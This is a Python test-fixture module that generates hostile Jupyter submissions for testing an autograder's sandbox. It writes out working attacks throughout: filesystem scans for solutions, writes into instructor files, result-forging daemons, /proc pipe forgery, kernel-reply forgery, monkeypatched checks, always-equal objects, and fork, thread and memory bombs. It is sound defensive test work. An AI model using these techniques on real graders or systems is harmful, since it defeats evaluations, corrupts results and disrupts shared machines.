"""Hostile submissions of the tiny lab (``tests/data/lab_tiny.md``) for ``tests/test_grade.py``.

Each attack is code in a submission's solution cells, as an attacker would write it: it knows
where the course clone is, where the instructor keeps the lab, where the results go and how the
grader works, and it runs as whatever user the kernel runs as. Every attack answers exercise 1
wrongly (``3 * x``) unless the attack itself obtains or forges the right result, so a row with
exercise 1 passed means the attack worked. What an attack saw is printed with the prefix
``ATTACK`` (the test reads it from the submission's feedback notebook).

:func:`batch` returns ``{file name: notebook text}`` for a folder of submissions.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import jupytext
import nbformat

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "scripts"))
import make_student  # noqa: E402

TINY = ROOT / "tests" / "data" / "lab_tiny.md"
GOOD = {"ex1-solution": "def double(x):\n    return x + x", "ex2-solution": "speedup = 3.0"}
WRONG = "def double(x):\n    return 3 * x"


def submission(solutions: dict, checks: dict | None = None, extra: str | None = None) -> str:
    """The student edition of the tiny lab with some solution (and check) cells replaced, and
    ``extra`` as a cell the student added after the first solution."""
    nb = make_student.student_notebook(TINY)
    cells = []
    for cell in nb.cells:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in solutions:
            cell.source = solutions[gid]
        if checks and gid in checks:
            cell.source = checks[gid]
        cells.append(cell)
        if extra and gid == "ex1-solution":
            cells.append(nbformat.v4.new_code_cell(extra))
    nb.cells = cells
    return nbformat.writes(nb)


def reads_solutions(clone: Path, lab_copy: Path) -> str:
    """Look for the lab's solutions (its source, a reference notebook) anywhere it can read, and
    use the solution when found."""
    return f'''import os, time
targets = ["../lab.md", "lab.md", "../labs/lab_tiny.md", {str(lab_copy)!r}, {str(lab_copy.with_suffix(".ipynb"))!r},
           {str(clone / "tests/data/lab_tiny.md")!r}, {str(clone / "labs/01_roofline.md")!r},
           {str(clone / "labs/01_roofline.ipynb")!r}]
found = []
for path in targets:
    try:
        if "BEGIN SOLUTION" in open(path).read():
            found.append(path)
    except OSError:
        pass
t0 = time.time()
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")
               and d not in ("site-packages", ".git", "__pycache__")]
    for f in files:
        if f.endswith((".md", ".ipynb")) and time.time() - t0 < 5:
            p = os.path.join(top, f)
            try:
                if os.path.getsize(p) < 2**20 and "return 2 * x" in open(p).read():
                    found.append(p)
            except OSError:
                pass
print("ATTACK found solutions:", sorted(set(found)))
if found:
    def double(x):
        return 2 * x       # copied from what was found
else:
    def double(x):
        return 3 * x'''


def writes_files(clone: Path, lab_copy: Path, other: Path, out: Path, token: str) -> str:
    """Write into the instructor's lab, the clone (a new lab, perflab's checks), another
    submission, the results and the student tree."""
    targets = [str(lab_copy), str(clone / "labs" / f".attack-{token}.md"), str(clone / "perflab" / "labs" / "exercises.py"),
               str(clone / "perflab" / f"_attack_{token}.py"), str(other), str(out),
               "/course/perflab/exercises.py"]
    return f'''{WRONG}
wrote = []
for path in {targets!r}:
    try:
        with open(path, "a") as f:
            f.write("\\n# attack {token}\\n")
        wrote.append(path)
    except OSError as err:
        pass
print("ATTACK wrote:", wrote)'''


def daemon(out: Path, marker: Path, token: str) -> str:
    """Leave a process behind (double fork, new session, empty environment, SIGTERM ignored) that
    rewrites the results after the grader is done."""
    inner = (f"import os, signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
             f"signal.signal(signal.SIGHUP, signal.SIG_IGN)\nend = time.time() + 90\n"
             f"while time.time() < end:\n"
             f"    for p in ({str(out)!r}, {str(marker)!r}):\n"
             f"        try:\n            open(p, 'w').write('forged {token}')\n"
             f"        except OSError:\n            pass\n    time.sleep(0.2)\n")
    return f'''{WRONG}
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-c", {inner!r}], env={{}}, start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os._exit(0)
os.wait()
print("ATTACK daemon started")'''


def replaces_checks() -> str:
    """Replace the check functions (in perflab and in the notebook's namespace)."""
    return f'''{WRONG}
import perflab.labs.exercises as E
E.check_close = lambda *a, **k: True
check_close = E.check_close'''


def swallows_errors() -> str:
    """Wrap every later cell in ``try/except`` with an AST transformer."""
    return f'''{WRONG}
import ast
class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Swallow())'''


def patches_math() -> str:
    """Make the comparison inside the check lie (``math.isclose`` always true)."""
    return f'''{WRONG}
import math
math.isclose = lambda *a, **k: True'''


def forges_replies() -> str:
    """Rewrite the kernel's own messages: error outputs dropped, error replies turned into 'ok'."""
    return f'''{WRONG}
session = get_ipython().kernel.session
original = session.send
def send(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {{}}).get("msg_type")
    if kind == "error":
        return None
    if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        content = {{"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {{}},
                   "payload": []}}
    return original(stream, msg_or_type, content, parent, *args, **kwargs)
session.send = send'''


def forges_channel() -> str:
    """Write forged results into every pipe it holds and every pipe of its parent and grandparent
    (the worker's pipe to the grader, in a grader that lets the kernel reach it), now and again
    from a process without the grader's environment token, once the worker has exited (so that
    the forgery is the last result on the pipe).

    Only pipes, and only those two processes: run under a grader without a sandbox, as root, an
    attack that wrote into every open file under /proc reached every process on the machine.
    """
    cells = [{"index": i, "grade_id": gid, "grade": True, "points": pts, "error": "", "measured": [],
              "origin": "instructor", "replied": True, "text": "", "expects_verdict": False, "ledger": []}
             for i, gid, pts in ((3, "ex1-check", 2), (6, "ex2-check", 1), (7, "ex2-check-fast", 1))]
    lines = [json.dumps({"result": {"status": "graded", "note": "", "cells": cells, "seconds": 1.0}})]
    lines += [json.dumps({"cell": c}) for c in cells]
    lines += [json.dumps({"done": {"status": "graded", "note": "", "kernel_exit": None, "seconds": 1.0}})]
    payload = ("\n".join(lines) + "\n").encode()
    later = ("import os, sys, time\nworker = int(sys.argv[1])\nfds = [int(a) for a in sys.argv[2:]]\n"
             "for _ in range(600):\n    if not os.path.exists(f'/proc/{worker}'):\n        break\n"
             "    time.sleep(0.1)\n"
             f"for fd in fds:\n    try:\n        os.write(fd, {payload!r})\n    except OSError:\n        pass\n")
    return f'''{WRONG}
import os, stat, subprocess, sys
payload = {payload!r}
paths = [f"/proc/self/fd/{{fd}}" for fd in os.listdir("/proc/self/fd")]
worker = pid = os.getppid()
for _ in range(2):
    try:
        paths += [f"/proc/{{pid}}/fd/{{fd}}" for fd in os.listdir(f"/proc/{{pid}}/fd")]
        pid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
    if pid <= 1:
        break
held = []
for path in paths:
    try:
        if stat.S_ISFIFO(os.stat(path).st_mode):
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, payload)
            held.append(fd)
    except OSError:
        pass
if os.fork() == 0:
    subprocess.Popen([sys.executable, "-c", {later!r}, str(worker), *map(str, held)], env={{}}, pass_fds=held,
                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
    os._exit(0)
os.wait()
print("ATTACK forged writes:", len(held))'''


def memory_children(each_mib: int = 800, count: int = 3) -> str:
    """Hold memory in several child processes, each under a per-process limit.

    The parent waits until every child says it holds its memory (or died), then holds on: on a
    loaded machine the children's start can take longer than any fixed sleep."""
    child = (f"import time\nb = bytearray({each_mib} * 2**20)\nb[::4096] = b'x' * len(b[::4096])\n"
             "print('held', flush=True)\ntime.sleep(20)\n")
    return f'''{GOOD["ex2-solution"]}
import subprocess, sys, time
kids = [subprocess.Popen([sys.executable, "-c", {child!r}], stdout=subprocess.PIPE) for _ in range({count})]
for k in kids:
    k.stdout.readline()                   # "held", or nothing if the child was killed
time.sleep(3)
print("ATTACK children alive:", [k.poll() is None for k in kids])'''


def network(port: int) -> str:
    """Reach the grader's machine (a port listening on its loopback) and the outside world."""
    return f'''{WRONG}
import socket
reached = []
for host in ("127.0.0.1", socket.gethostname(), "1.1.1.1"):
    try:
        socket.create_connection((host, {port} if host != "1.1.1.1" else 53), timeout=2).close()
        reached.append(host)
    except OSError:
        pass
print("ATTACK reached:", reached)'''


def fork_bomb() -> str:
    return "import os, time\nfor _ in range(24):\n    if os.fork() == 0:\n        while True:\n            pass\ntime.sleep(60)"


def thread_bomb() -> str:
    """Start threads until one is refused, then hold them all: one process (the polled count of
    processes does not see it), as many tasks as its uid may have. Where every sandbox shared
    one uid, they were the tasks its neighbour's kernel needed to start."""
    return """import threading, time
threading.stack_size(65536)               # the memory limit is not what stops it
held = []
try:
    while len(held) < 100000:
        t = threading.Thread(target=time.sleep, args=(600,), daemon=True)
        t.start()
        held.append(t)
except RuntimeError:                      # can't start new thread
    pass
print("ATTACK threads held:", len(held), flush=True)
time.sleep(600)"""


def prints_uid(solution: str) -> str:
    """``solution``, then print the kernel's uid (to compare the uids of concurrent sandboxes)."""
    return solution + "\nimport os\nprint('ATTACK uid', os.getuid(), os.getgid())"


def batch(clone: Path, lab_copy: Path, folder: Path, out: Path, marker: Path, port: int, token: str) -> dict[str, str]:
    """Every submission of the test batch, by file name (see ``EXPECTED`` in ``tests/test_grade.py``)."""
    vandal = (f"import shutil\nshutil.rmtree({str(folder)!r}, ignore_errors=True)\n"
              f"open({str(lab_copy)!r}, 'w').write('gone')\nopen({str(out)!r}, 'w').write('forged')")
    reference = jupytext.read(TINY)            # the instructor's own notebook, solutions in place
    reference.metadata.pop("jupytext", None)
    return {
        "a_deletes_files.ipynb": submission(GOOD, extra=vandal),
        "b_full.ipynb": submission(GOOD),
        "c_partial.ipynb": submission({"ex1-solution": GOOD["ex1-solution"]}),
        "c_partial_credit.ipynb": submission({"ex1-solution": GOOD["ex1-solution"], "ex2-solution": "speedup = 2.2"}),
        "d_raises.ipynb": submission({"ex1-solution": "raise RuntimeError('boom')",
                                      "ex2-solution": GOOD["ex2-solution"]}),
        "e_loops_forever.ipynb": submission({"ex1-solution": "while True:\n    pass"}),
        "f_memory_bomb.ipynb": submission({"ex1-solution": "hog = []\nwhile True:\n"
                                                           "    hog.append(bytearray(2**26))"}),
        "g_edits_checks.ipynb": submission({"ex1-solution": WRONG},
                                           checks={"ex1-check": "print('✓ all good')", "ex2-check": "pass"}),
        "h_fork_bomb.ipynb": submission({"ex1-solution": GOOD["ex1-solution"], "ex2-solution": fork_bomb()}),
        "i_not_a_notebook.ipynb": "this is not a notebook\n",
        "j_student_edition.ipynb": nbformat.writes(make_student.student_notebook(TINY)),
        "k_reference.ipynb": nbformat.writes(reference),
        "m_memory_children.ipynb": submission({"ex1-solution": GOOD["ex1-solution"],
                                               "ex2-solution": memory_children()}),
        "n_killed_by_signal.ipynb": submission({"ex1-solution": GOOD["ex1-solution"],
                                                "ex2-solution": "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)"}),
        "p_reads_solutions.ipynb": submission({"ex1-solution": reads_solutions(clone, lab_copy)}),
        "q_writes_files.ipynb": submission({"ex1-solution": writes_files(clone, lab_copy, folder / "b_full.ipynb",
                                                                         out, token)}),
        "r_daemon.ipynb": submission({"ex1-solution": daemon(out, marker, token)}),
        "s_replaces_checks.ipynb": submission({"ex1-solution": replaces_checks()}),
        "t_swallows_errors.ipynb": submission({"ex1-solution": swallows_errors()}),
        "u_patches_math.ipynb": submission({"ex1-solution": patches_math()}),
        "v_forges_replies.ipynb": submission({"ex1-solution": forges_replies()}),
        "w_forges_channel.ipynb": submission({"ex1-solution": forges_channel()}),
        "x_network.ipynb": submission({"ex1-solution": network(port)}),
    }


# ---------------------------------------------------------------------------------------------
# The attacks of issue 44: verdicts that do not hold, rows that cost the others
# ---------------------------------------------------------------------------------------------

LAB03 = ROOT / "labs" / "03_internals.md"

#: objects that answer whatever a check compares them with: put first in a submission
EVIL = '''import sys


class Yes:
    """Equal to everything (and in every list of choices)."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __repr__(self):
        return "Yes()"


class Peek(float):
    """A number whose float() is whatever number the check expects, found up the stack."""

    def __float__(self):
        f = sys._getframe(1)
        while f is not None:
            for name in ("expected", "e", "want", "truth", "_rs", "_ro"):
                v = f.f_locals.get(name)
                if type(v) in (int, float):
                    return float(v)
            f = f.f_back
        return 1.0
'''


def peeks_expected() -> str:
    """Exercise 1 of the tiny lab answered by a number that reads the check's expected value."""
    return EVIL + '''

def double(x):
    return Peek(1.0)'''


def ledger_bomb() -> str:
    """A right exercise 1 whose function also writes a verdict with a 400-digit integer, and
    text that is not valid UTF-8 (a lone surrogate), into the check log."""
    return '''import json, os


def double(x):
    path = os.environ.get("PERFLAB_GRADE_LOG")
    if path:
        with open(path, "a") as f:
            f.write(json.dumps({"check": "close", "what": "bomb \\ud800", "passed": True,
                                "inputs": {"got": 10**400, "expected": 10**400, "rtol": 0}}) + "\\n")
    print("✓ \\ud800")
    return x + x'''


def prints_history() -> str:
    """A cell after exercise 1's check: print everything the kernel remembers of its cells."""
    return 'print("ATTACK In:", In)\nprint("ATTACK _ih:", _ih)'


def patches_more() -> str:
    """Patch what the checks use but the old probe did not watch: torch.autograd, numpy, a new
    key in a watched module, a perflab module that is not loaded yet."""
    return f'''{WRONG}
import numpy, torch
import perflab.labs.lab03
torch.autograd.gradcheck = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
perflab.labs.exercises.check_everything = lambda *a, **k: True
perflab.labs.lab03.hidden_ctx_tensors = lambda output: []'''


def lab03_submission(solutions: dict[str, str]) -> str:
    """The student edition of lab 3 with some solution cells replaced (by ``grade_id``)."""
    nb = make_student.student_notebook(LAB03)
    for cell in nb.cells:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in solutions:
            cell.source = solutions[gid]
    return nbformat.writes(nb)


def lab03_reference() -> str:
    """Lab 3 with its reference solutions (the instructor's source, hidden tests in place)."""
    nb = jupytext.read(LAB03)
    nb.metadata.pop("jupytext", None)
    return nbformat.writes(nb)


def lab03_no_right_answer() -> str:
    """Lab 3 answered with no right answer at all, each exercise by another trick:

    1. strides and kinds that are equal to everything (``Yes``);
    2. predictions equal to everything;
    3. ``SiLU`` that is no ``autograd.Function`` (``apply = staticmethod(F.silu)``);
    4. ``train_fast`` that copies the reference loop's weights and losses the check cell left
       in the notebook's namespace (``slow_model``, ``slow_losses``);
    5. numbers whose ``float()`` reads the value the check expects (``Peek``) and regimes
       equal to everything.
    """
    return lab03_submission({
        "ex1-solution": EVIL + '''

answers = {expr: (tuple(Yes() for _ in range(eval(expr, {"x": x}).dim())), Yes())
           for expr in expressions}''',
        "ex2-solution": "raises = {letter: Yes() for letter in snippets}",
        "ex3-solution": "class SiLU:\n    apply = staticmethod(F.silu)",
        "ex4-solution": '''import __main__


def train_fast(model, opt, xs, ys):
    """No training at all: the reference's weights and losses, read from the notebook."""
    ref, losses = getattr(__main__, "slow_model", None), getattr(__main__, "slow_losses", None)
    if ref is None or losses is None:
        return torch.zeros(len(xs), device=xs.device)
    with torch.no_grad():
        for p, q in zip(model.parameters(), ref.parameters()):
            p.copy_(q)
    return torch.tensor(losses, device=xs.device)


def log_lines(losses):
    return [f"step {i}: loss {v:.4f}" for i, v in enumerate(losses.tolist())]''',
        "ex5-prediction": "predicted_crossover = Peek(1.0)",
        "ex5-solution": '''def fit(points):
    return Peek(1.0), Peek(1.0)


regime_1000 = Yes()
regime_largest = Yes()''',
    })


def lab03_patches() -> str:
    """Lab 3's exercises 3 and 4 answered wrongly, with the functions that would catch them
    patched in modules loaded after the grader's first look: ``hidden_ctx_tensors`` (a tensor
    kept on ``ctx``), ``count_host_syncs`` (``.item()`` at every step) and ``gradcheck``; and
    exercises 1 and 2 answered by emptying what their checks loop over (``expressions``,
    ``snippets``), so that nothing is asked."""
    return lab03_submission({
        "ex1-solution": 'expressions.clear()\nanswers = {"nothing": ((), "view")}',
        "ex2-solution": 'snippets.clear()\nraises = {"a": True}',
        "ex3-solution": '''import perflab.labs.lab03, perflab.internals.hostsync
from collections import Counter

perflab.labs.lab03.hidden_ctx_tensors = lambda output: []
torch.autograd.gradcheck = lambda *a, **k: True
_count = perflab.internals.hostsync.count_host_syncs
perflab.internals.hostsync.count_host_syncs = lambda fn, *a, **k: (fn(*a, **k), Counter())


class SiLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        ctx.s = torch.sigmoid(x)       # kept for backward, hidden from the hooks
        ctx.x = x
        return x * ctx.s

    @staticmethod
    def backward(ctx, grad_out):
        s, x = ctx.s, ctx.x
        return grad_out * s * (1 + x * (1 - s))''',
        "ex4-solution": '''def train_fast(model, opt, xs, ys):
    """train_slow's loop with its .item() kept: it synchronizes at every step."""
    losses = torch.empty(len(xs), device=xs.device)
    for step in range(len(xs)):
        x, y = xs[step], ys[step]
        keep = (x.abs().amax(dim=1) < 50.0).to(x.dtype)
        per_row = ((model(x) - y) ** 2).mean(dim=1)
        loss = (per_row * keep).sum() / keep.sum()
        opt.zero_grad(set_to_none=True)
        loss.backward()
        opt.step()
        losses[step] = loss.item()
    return losses


def log_lines(losses):
    return [f"step {i}: loss {v:.4f}" for i, v in enumerate(losses.tolist())]''',
    })


def issue44_batch() -> dict[str, str]:
    """The issue-44 submissions, by file name (see ``EXPECTED_44`` in ``tests/test_grade.py``).

    The tiny lab's are named ``99_tiny-...`` (graded with the tiny lab copied to ``99_tiny.md``), lab 3's ``03_...``: graded without
    ``--lab``, each file finds its lab by name."""
    good = submission(GOOD)
    return {
        "99_tiny-aa_ledger_bomb.ipynb": submission({"ex1-solution": ledger_bomb(),
                                                     "ex2-solution": GOOD["ex2-solution"]}),
        "99_tiny-peeks_expected.ipynb": submission({"ex1-solution": peeks_expected()}),
        "99_tiny-prints_history.ipynb": _with_cell_after(GOOD, "ex2-solution", prints_history()),
        "99_tiny-patches_more.ipynb": submission({"ex1-solution": patches_more()}),
        "99_tiny-pair a.ipynb": good,
        "99_tiny-pair_a.ipynb": nbformat.writes(make_student.student_notebook(TINY)),
        ".99_tiny-dotfile.ipynb": good,
        "99_tiny-notes.txt": "not a notebook\n",
        "03_reference.ipynb": lab03_reference(),
        "03_student.ipynb": nbformat.writes(make_student.student_notebook(LAB03)),
        "03_no_right_answer.ipynb": lab03_no_right_answer(),
        "03_patches.ipynb": lab03_patches(),
    }


def _with_cell_after(solutions: dict, gid: str, source: str) -> str:
    """The tiny lab's student edition with ``solutions``, and a cell the student added after ``gid``."""
    nb = nbformat.reads(submission(solutions), as_version=4)
    cells = []
    for cell in nb.cells:
        cells.append(cell)
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid:
            cells.append(nbformat.v4.new_code_cell(source))
    nb.cells = cells
    return nbformat.writes(nb)
